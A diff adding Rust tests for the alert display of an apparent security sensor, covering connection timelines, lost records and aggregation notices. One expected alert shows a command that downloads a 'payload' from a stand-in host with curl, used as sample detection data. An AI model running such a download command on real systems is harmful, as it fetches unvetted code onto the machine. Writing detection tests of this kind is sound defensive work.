@@ -36,6 +36,23 @@ fn an_alert_fits_on_a_screen() {
 }
 
 #[test]
+fn connections_have_names_and_ends() {
+    let shown = show(&Message::Alert(Box::new(sample::connections())), 80);
+    let expected = "\
+\x20 to         10.0.0.2:80 tcp  files.example.com   ↑ 3.0 MiB  ↓ 92 B
+             10.0.0.2:443 tcp  files.example.com
+  from       10.0.0.2:50123 tcp
+  timeline       0 ms  ran        curl -sSLo /tmp/x http://10.0.0.2/payload
+                10 ms  connected  10.0.0.2:443 tcp  files.example.com
+                11 ms  refused    10.0.0.2:443 tcp  files.example.com
+                12 ms  connected  10.0.0.2:80 tcp  files.example.com
+               600 ms  accepted   10.0.0.2:50123 tcp
+                5.0 s  moved      10.0.0.2:80   ↑ 3.0 MiB  ↓ 92 B  files.exampl…
+";
+    assert!(shown.contains(expected), "{shown}");
+}
+
+#[test]
 fn the_sensor_says_what_it_does_not_see() {
     let expected = "\
 \x20▲ watching 3 of 4 hooks · 6 detections · 231 processes · 3 containers · 180 ms · Linux 6.18.5    12:03:14.281
@@ -50,10 +67,17 @@ fn the_sensor_says_what_it_does_not_see() {
 fn losses_and_the_end_are_told() {
     let expected = "\
 \x20▲ 12,411 records lost: what they would have told is not in any alert  12:03:14.281
-      12,408  network_connect  ring full
+      12,408  network_connect  ring full  in web-1
            3  syslog udp://127.0.0.1:514  queue full
 ";
     assert_eq!(show(&sample::loss(), 83), expected);
+    let expected = "\
+\x20● 981,275 records counted instead of told: more than one container's share  12:03:14.281
+     980,000  network_connect  10.0.0.2:80 tcp  in web-1
+          75  network_connect  others  in web-1
+       1,200  file_open  make pid 4242
+";
+    assert_eq!(show(&sample::aggregation(), 89), expected);
     let expected = " ■ stopped after 4 alerts from 120,034 events  12:03:14.281\n";
     assert_eq!(show(&sample::stopped(), 59), expected);
 }
@@ -64,8 +88,10 @@ fn no_line_is_wider_than_the_terminal() {
         sample::message(),
         Message::Alert(Box::new(sample::hostile())),
         sample::coverage(),
+        Message::Alert(Box::new(sample::connections())),
         sample::loss(),
         sample::tampering(),
+        sample::aggregation(),
         sample::stopped(),
     ] {
         for width in [40, 57, 80, 100, 140] {
